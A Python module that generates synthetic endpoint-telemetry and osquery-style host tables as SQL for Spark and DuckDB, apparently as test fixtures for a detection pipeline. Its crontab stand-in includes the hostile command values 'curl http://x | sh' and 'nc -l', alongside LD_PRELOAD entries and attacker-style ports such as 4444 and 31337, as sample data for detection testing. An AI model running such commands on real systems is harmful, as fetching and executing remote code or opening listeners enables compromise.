"""Telemetry stand-ins derived from the driver tables, as SQL that Spark and DuckDB both run.

``events`` is the only source: ``user_id % 20`` is the node. The text is shared
by the Spark queries and the DuckDB checks, so both see the same input rows.
"""

from __future__ import annotations

import zlib

from pyspark.sql import DataFrame, SparkSession

from fleetscope.plans.catalogue import host_tables

NODE = "user_id % 20"
CLASS = ("case event_type when 'click' then 'process_start' when 'view' then 'file_modify' when 'error' then 'network_connect' "
         "when 'signup' then 'user_login' else 'kernel_oops' end")


def uuid_sql(text: str) -> str:
    """UUID-shaped md5 of an expression, portable."""
    h = f"md5({text})"
    cuts = ((1, 8), (9, 4), (13, 4), (17, 4), (21, 12))
    return " || '-' || ".join(f"substr({h}, {a}, {n})" for a, n in cuts)


BASE = {
    "telemetry": f"""
select {NODE} as node_id, event_id,
  event_id - (case when event_id % 25 = 0 and event_id > 0 then 1 else 0 end) as sequence_no,
  {CLASS} as event_type,
  case when event_id % 50 = 7 then 'not json' when event_id % 50 = 8 then '' else props end as payload,
  case when event_id % 100 = 3 then 1 else 0 end as probe_error, ts
from events""",
    # Event ids are a node's own: here two nodes share some.
    "shared_telemetry": f"""
select {NODE} as node_id, event_id, {CLASS} as event_type, props as payload, ts from events
union all select ({NODE} + 1) % 20, event_id, {CLASS}, props, ts from events where event_id % 6 = 0""",
    "acks": """
select event_id as sequence_no, 1 as ack_no, ts as acked_at from events where event_id % 10 <> 4
union all select event_id, 2, ts from events where event_id % 30 = 5""",
    "heartbeats": f"""
select event_id, case when event_id % 17 = 0 then 'bad-id' else cast({NODE} as string) end as node_id,
  case event_id % 5 when 0 then 'isolated' when 1 then 'degraded' else 'healthy' end as status,
  event_id % 97 as events_buffered, ts as recorded_at
from events where event_type = 'view'""",
    "heartbeats_uuid": f"""
select event_id, case when event_id % 17 = 0 then 'bad-id' else {uuid_sql(f"'node-' || cast({NODE} as string)")} end as node_id,
  case event_id % 5 when 0 then 'isolated' when 1 then 'degraded' else 'healthy' end as status,
  event_id % 97 as events_buffered, ts as recorded_at
from events where event_type = 'view'""",
    "nodes": f"""
select {uuid_sql("'node-' || cast(n as string)")} as node_id, 'mid-' || cast(n as string) as machine_id,
  'host-' || cast(n as string) as hostname, 'Debian 12' as os_version, '0.1.0' as agent_version, 'healthy' as agent_status,
  case when n % 5 = 0 then 'isolated' else 'active' end as operator_status, first_seen_at, last_enrolled_at
from (select {NODE} as n, min(ts) as first_seen_at, max(ts) as last_enrolled_at from events group by {NODE}) t where n % 7 <> 3""",
    "node_numbers": f"select distinct {NODE} as node_id from events",
    "enrollments": f"""
select event_id, 'mid-' || cast(user_id as string) as machine_id, 'host-' || cast({NODE} as string) as hostname,
  case event_id % 3 when 0 then 'Ubuntu 24.04' when 1 then 'Debian 12' else 'RHEL 9.3' end as os_version,
  '0.' || cast(event_id % 4 as string) || '.0' as agent_version, ts as requested_at
from events where event_type = 'signup'""",
    "commands": f"""
select event_id, {NODE} as node_id, event_id % 2 = 0 as isolate, ts as issued_at
from events where event_type = 'purchase' and event_id % 7 = 0""",
    "executions": f"""
select node_id, case when node_id % 2 = 0 then 'p' else 'r' end as query_name, run_day, case when (node_id + day_no) % 9 = 0 then 1 else 0 end as status_code,
  case when day_no > 17 and node_id % 4 = 1 then 2 else 1 end as session_id
from (select distinct {NODE} as node_id, cast(date_trunc('day', ts) as date) as run_day,
  cast(extract(day from ts) as bigint) as day_no from events) t""",
    "result_rows": f"""
select {NODE} as node_id, case when {NODE} % 2 = 0 then 'p' else 'r' end as query_name, cast(date_trunc('day', ts) as date) as run_day, event_type as name,
  cast(user_id % 3 as string) as uid,
  case when extract(day from ts) > 17 and {NODE} % 4 = 1 then 2 else 1 end as session_id
from events where not ({NODE} = 3 and extract(day from ts) in (5, 6))""",
    "host_counters": f"""
select {NODE} as node_id, ts, event_id, event_id * 1000 % 700001 as read_bytes, event_id % 5000 as total_seconds
from events""",
    "envelopes": f"""
select event_id, ts, case
  when event_id % 50 = 7 then 'not json'
  when event_id % 50 = 9 then '{{"node_id": 12, "payload": {{"a": [1, 2], "b": "x"}}}}'
  when event_id % 50 = 13 then '{{"node_id": "n3", "event_type": "file_modify", "payload": {{"b": 1, "a": 2, "b": "3"}}, "timestamp_ns": 7, "sequence_id": " "}}'
  when event_id % 50 = 14 then '{{"node_id": "n4", "event_type": 3, "payload": {{"z": [1, 22222222222], "payload": "x"}}, "sequence_id": null}}'
  when event_id % 50 = 11 then '{{"node_id": "n1", "event_type": true, "timestamp_ns": "5", "sequence_id": 9}}'
  when event_id % 50 = 12 then '{{"node_id": "n2", "event_type": "file_create", "payload": "text", "timestamp_ns": 0, "sequence_id": "z"}}'
  else '{{"node_id": "n' || cast({NODE} as string) || '", "event_type": '
    || case when event_id % 3 = 0 then cast(event_id % 6 as string) else '"' || {CLASS} || '"' end
    || ', "payload": ' || props || ', "timestamp_ns": ' || cast(1704067200000000000 + event_id * 1000003 as string)
    || ', "sequence_id": "s' || cast(event_id as string) || '"}}' end as raw
from events""",
    "result_payloads": f"""
select event_id, {NODE} as node_id, '{{"query_name":"q' || cast(event_id % 3 as string)
  || '","agent_uuid":"n","timestamp_ns":5,"action":"' || case event_id % 3 when 0 then 'SNAPSHOT' when 1 then 'added' else 'REMOVED' end
  || '","rows":[{{"columns":[{{"name":"pid","value":"' || cast(event_id as string) || '"}},{{"name":"name","value":"' || event_type
  || '"}},{{"name":"uid","value":"' || case when event_id % 10 = 4 then 'abc' else cast(user_id as string) end || '"}}]}}'
  || case when event_id % 4 = 0 then ',{{"columns":[{{"name":"pid","value":"1"}},{{"name":"pid","value":"2"}},{{"name":"parent","value":"7"}}]}}' else '' end
  || ']}}' as payload
from events""",
    "releases": """
select event_id, case event_id % 6
  when 0 then 'NAME="Debian GNU/Linux"' || chr(10) || '# note' || chr(10) || ' PRETTY_NAME = "Debian 12" ' || chr(10)
  when 1 then 'NAME=Alpine' || chr(10) || 'VERSION=3.' || cast(event_id % 20 as string)
  when 2 then '#PRETTY_NAME=no' || chr(10) || 'VERSION="9"'
  when 3 then ''
  when 4 then 'PRETTY_NAME="a=b"' || chr(10) || 'PRETTY_NAME=Last'
  else cast(null as string) end as release_text
from events""",
    "env_blocks": f"""
select {NODE} as node_id, event_id as pid, 'PATH=/usr/bin:/p' || cast(event_id % 7 as string) || chr(10) || 'noise' || chr(10)
  || 'OPTS=a=b=' || event_type || chr(10) as environ
from events""",
    "machine_ids": """
select event_id, case event_id % 4 when 0 then '  m' || cast(event_id as string) || ' ' when 1 then '   ' else cast(null as string) end as id_a,
  case event_id % 3 when 0 then 'd' || cast(event_id as string) when 1 then '' else cast(null as string) end as id_b
from events""",
    "waits": f"""
select {NODE} as node_id, event_id as pid, 't' || cast(event_id % 9 as string) as name,
  case event_id % 5 when 0 then 'futex_wait' when 1 then ' sys_epoll_wait ' when 2 then '0' when 3 then 'hrtimer_0' else 'do_wait' end as wchan
from events""",
    "exe_links": f"select {NODE} as node_id, event_id as pid from events where event_id % 11 <> 0",
    "sessions": f"""
select {NODE} as node_id, event_id, case event_id % 4 when 0 then '' else 'u' || cast(user_id as string) end as "user",
  case event_id % 3 when 0 then 'user' else 'tty' end as type, event_id % 1000 as time
from events""",
    "memory": f"select {NODE} as node_id, event_id, 1000 + event_id % 977 as memory_total, event_id % 1000 as memory_free from events",
    "schedule_stats": """
select event_type as name, count(*) as executions, cast(sum(event_id % 1000) as bigint) as wall_time,
  cast(sum(event_id % 77) as bigint) as user_time from events group by event_type""",
    "schedule_old": """
select 'q' || cast(event_id % 300 as string) as name, 'select ' || cast(event_id as string) as query,
  event_id % 5 * 30 as interval_secs, event_id % 2 = 0 as snapshot, event_id as updated_at
from events where event_type = 'click'""",
    "schedule_new": """
select 'q' || cast(event_id % 400 as string) as name, 'select ' || cast(event_id as string) as query,
  event_id % 5 * 30 as interval_secs, event_id % 2 = 0 as snapshot, event_id as updated_at
from events where event_type = 'view'""",
    "rules": """
select * from (values
  ('r1', 'process_start', '"k": 1', 'high', 0.9, 'T1059.004'),
  ('r2', 'network_connect', '9}', 'critical', 0.8, 'T1071'),
  ('r3', 'file_modify', '"k": 5', 'medium', 0.5, 'T1565'),
  ('r4', 'user_login', '7', 'low', 0.3, 'T9999')) as t(rule_id, event_type, needle, severity, confidence, technique_id)""",
    "conditions": """
select * from (values
  ('c1', 'process_start', '*', '"k": 1', 'contains', 'high', 0.9, 'T1059.004', 'all'),
  ('c1', 'process_start', '*', '[02468]}$', 'regex', 'high', 0.9, 'T1059.004', 'all'),
  ('c2', 'network_connect', 'k', '7', 'contains', 'critical', 0.8, 'T1071', 'any'),
  ('c2', 'network_connect', 'k', '^3', 'regex', 'critical', 0.8, 'T1071', 'any'),
  ('c3', 'file_modify', 'k', '1', 'contains', 'low', 0.5, 'T1565', '2'),
  ('c3', 'file_modify', 'k', '2', 'contains', 'low', 0.5, 'T1565', '2'),
  ('c3', 'file_modify', 'k', '3', 'contains', 'low', 0.5, 'T1565', '2'))
  as t(rule_id, event_type, field, pattern, mode, severity, confidence, technique_id, need)""",
    "techniques": """
select * from (values
  ('T1059.004', 'Execution', 'Unix Shell'), ('T1071', 'Command and Control', 'Application Layer Protocol'),
  ('T1565', 'Impact', 'Data Manipulation')) as t(technique_id, tactic, technique_name)""",
    "alert_actions": f"""
select a.event_id as action_id, md5(cast(e.node_id as string) || ':' || cast(e.event_id as string) || ':' || case a.event_id % 4 when 0 then 'r1' when 1 then 'r2' when 2 then 'r3' else 'r4' end) as alert_id,
  case a.event_id % 5 when 0 then 'dismissed' when 1 then 'open' else 'acknowledged' end as new_status, a.ts as acted_at
from (select * from events) a join (select event_id, {NODE} as node_id from events) e on e.event_id = a.event_id - a.event_id % 3""",
    "watched": f"""
select {NODE} as node_id, event_id, (case event_id % 12 when 0 then '/usr/bin/p' when 1 then '/etc/conf' when 2 then '/etc/udev/rules.d/r'
  when 3 then '/home/ann/.ssh/k' when 4 then '/home/ann/x/.ssh/k' when 5 then '/tmp/ssh-' when 6 then '/tmp/a/b' when 7 then '/etc/cron.d/c'
  when 8 then '/opt/x' when 9 then '/etc/fstab' when 10 then '/etc/systemd/system/u' else '/dev/shm/s' end)
  || case when event_id % 12 = 9 and event_id % 24 < 12 then '' else cast(event_id % 40 as string) end as path
from events""",
    "histories": f"""
select {NODE} as node_id, event_id, ts, '/etc/f' || cast(event_id % 4 as string) as path, 'h' || cast(event_id % 40 - event_id % 3 as string) as sha256,
  '10.0.0.' || cast(event_id % 5 as string) as address, 'mac' || cast(event_id % 25 - event_id % 2 as string) as mac, event_id % 5000 as total_seconds
from events""",
}

FILE_DIR = "(case event_id % 4 when 0 then '/usr/bin' when 1 then '/tmp' when 2 then '/opt/bin' else '/etc' end)"
FILE_PATH = f"{FILE_DIR} || '/f' || cast(event_id as string)"
EPOCH = "1704067200 + event_id * 259"
LOGIN_UID = "case when user_id % 30 = 0 then 0 else 990 + user_id end"

# Columns whose values matter to a filter or join; the others are filled by rule.
SPECIAL = {
    ("processes", "parent"): "event_id - 20 * (1 + event_id % 3)",
    ("processes", "name"): "case event_id % 6 when 0 then 'bash' when 1 then 'sshd' when 2 then 'curl' when 3 then 'sh' when 4 then 'python3' else 'nginx' end",
    ("processes", "path"): "(case event_id % 5 when 0 then '/tmp/' when 1 then '/usr/bin/' when 2 then '/dev/shm/' when 3 then '/usr/sbin/' else '/var/tmp/' end) || 'p' || cast(event_id % 6 as string)",
    ("processes", "uid"): "case when user_id % 10 = 0 then 0 else 1000 + user_id end",
    ("processes", "state"): "case event_id % 9 when 0 then 'T' when 1 then 'R' else 'S' end",
    ("processes", "on_disk"): "case when event_id % 11 = 0 then 0 else 1 end",
    ("processes", "user_time"): "event_id * 37 % 1009",
    ("processes", "system_time"): "event_id * 53 % 997",
    ("processes", "resident_size"): "event_id * 4096 % 1000003",
    ("listening_ports", "pid"): "event_id + (case when event_id % 4 = 0 then 1 else 0 end)",
    ("listening_ports", "port"): "case event_id % 7 when 0 then 22 when 1 then 80 when 2 then 443 when 3 then 4444 when 4 then 8080 when 5 then 31337 else 9090 end",
    ("listening_ports", "address"): "case event_id % 3 when 0 then '0.0.0.0' when 1 then '127.0.0.1' else '::' end",
    ("users", "uid"): LOGIN_UID,
    ("users", "username"): "'u' || cast(user_id as string)",
    ("users", "shell"): "case user_id % 4 when 0 then '/bin/bash' when 1 then '/sbin/nologin' when 2 then '/bin/false' else '/bin/zsh' end",
    ("authorized_keys", "uid"): LOGIN_UID,
    ("process_envs", "pid"): "case when event_id % 8 = 0 then 1 else event_id end",
    ("process_envs", "key"): "case event_id % 4 when 0 then 'PATH' when 1 then 'LD_PRELOAD' when 2 then 'HOME' else 'LD_AUDIT' end",
    ("process_envs", "value"): "case event_id % 6 when 0 then '/usr/bin:/bin' when 1 then '/tmp/bin:/bin' when 2 then '/opt/bin' when 3 then cast(null as string) else '/home/x' end",
    ("file", "directory"): FILE_DIR,
    ("file", "path"): FILE_PATH,
    ("file", "writable"): "event_id % 3 % 2",
    ("file", "type"): "case when event_id % 2 = 0 then 'directory' else 'regular' end",
    ("file", "mtime"): f"case when event_id = 77 then 4070908800 else {EPOCH} end",
    ("file", "atime"): f"{EPOCH} + 5",
    ("suid_bin", "path"): FILE_PATH,
    ("last", "time"): f"case when event_id = 77 then 4070908800 else {EPOCH} end",
    ("kernel_modules", "name"): "'mod_' || cast(event_id % 40 as string)",
    ("kernel_modules", "status"): "case when event_id % 13 = 0 then 'Loading' when event_id % 29 = 0 then cast(null as string) else 'Live' end",
    ("process_open_sockets", "family"): "case event_id % 3 when 0 then 1 when 1 then 2 else 10 end",
    ("process_memory_map", "permissions"): "case event_id % 3 when 0 then 'r-xp' when 1 then 'rw-p' else '--xp' end",
    ("process_memory_map", "path"): "case event_id % 5 when 0 then '/usr/lib/x' when 1 then '/lib64/y' when 2 then '' when 3 then '/tmp/e.so' else '/opt/a' end",
    ("process_open_files", "path"): "(case event_id % 4 when 0 then '/proc/1/x' when 1 then '/dev/null' when 2 then '/home/a' else '/tmp/b' end) || cast(event_id % 9 as string)",
    ("systemd_units", "active_state"): "case event_id % 3 when 0 then 'active' when 1 then 'failed' else 'inactive' end",
    ("hash", "path"): "case event_id % 6 when 0 then '/etc/passwd' when 1 then '/etc/fstab' when 2 then '/etc/hosts' when 3 then '/usr/bin/x' when 4 then '/etc/ld.so.conf' else '/etc/none' end",
    ("crontab", "command"): "case event_id % 5 when 0 then 'curl http://x | sh' when 1 then 'backup' when 2 then '/tmp/run.sh' when 3 then 'nc -l' else 'logrotate' end",
    ("docker_containers", "id"): "'c' || cast(event_id as string)",
    ("docker_container_security_options", "id"): "'c' || cast(event_id as string)",
    ("docker_container_security_options", "privileged"): "event_id % 5 % 2",
    ("process_namespaces", "host_ipc"): "case when event_id % 23 = 0 then 1 else 0 end",
    ("process_namespaces", "host_net"): "case when event_id % 7 = 0 then 1 else 0 end",
    ("process_namespaces", "host_pid"): "case when event_id % 13 = 0 then 1 else 0 end",
    ("hardware_events", "subsystem"): "case event_id % 3 when 0 then 'usb' else 'pci' end",
    ("osquery_schedule", "executions"): "event_id % 5",
    ("user_ssh_keys", "encrypted"): "event_id % 2",
    ("shadow", "password_status"): "case event_id % 6 when 0 then 'NP' else 'active' end",
}
PER_USER = {"users"}


def _filled(table: str, column: str, kind: str) -> str:
    """Rule for the other columns: the row number scaled by the column name."""
    if column == "pid":
        return "event_id"
    key = "user_id" if table in PER_USER else "event_id"
    seed = zlib.crc32(column.encode())
    number = f"({key} * {3 + seed % 89} % {97 + seed % 1009})"
    return number if kind == "bigint" else f"'{column}_' || cast({number} as string)"


def host_table_sql(table: str, columns: dict[str, str], quote: str) -> str:
    cols = [f"{SPECIAL.get((table, c)) or _filled(table, c, k)} as {quote}{c}{quote}" for c, k in columns.items()]
    return f"select {'distinct ' if table in PER_USER else ''}{NODE} as node_id, {', '.join(cols)} from events"


HOST_TABLES = host_tables()


def standin_sql(name: str, quote: str) -> str:
    """SQL of a stand-in: one of BASE, or a host table under the prefix ``h_``."""
    if name in BASE:
        return BASE[name].replace('"user"', f"{quote}user{quote}") if name == "sessions" else BASE[name]
    table = name.removeprefix("h_")
    return host_table_sql(table, HOST_TABLES[table], quote)


class Fleet:
    """The driver tables of one folder and the stand-ins on top of them, as DataFrames."""

    def __init__(self, spark: SparkSession, sf_dir: str):
        self.spark, self.dir = spark, sf_dir.rstrip("/")
        self._view = f"fleet_events_{zlib.crc32(self.dir.encode()):08x}"

    def table(self, name: str) -> DataFrame:
        return self.spark.read.parquet(f"{self.dir}/{name}.parquet")

    def over(self, events: DataFrame, name: str, view: str | None = None) -> DataFrame:
        """A stand-in on top of any frame shaped like ``events``, also a stream."""
        view = view or self._view
        events.createOrReplaceTempView(view)
        return self.spark.sql(standin_sql(name, "`").replace("from events", f"from {view}"))

    def __getattr__(self, name: str) -> DataFrame:
        if name.startswith("_"):
            raise AttributeError(name)
        if name in BASE or name.removeprefix("h_") in HOST_TABLES:
            return self.over(self.table("events"), name)
        return self.table(name)

    def host(self) -> "HostTables":
        return HostTables(self)


class HostTables(dict):
    """Host tables by their plain names, made when asked for."""

    def __init__(self, fleet: Fleet):
        super().__init__()
        self.fleet = fleet

    def __contains__(self, table) -> bool:
        return table in HOST_TABLES

    def __missing__(self, table: str) -> DataFrame:
        df = getattr(self.fleet, f"h_{table}")
        self[table] = df
        return df
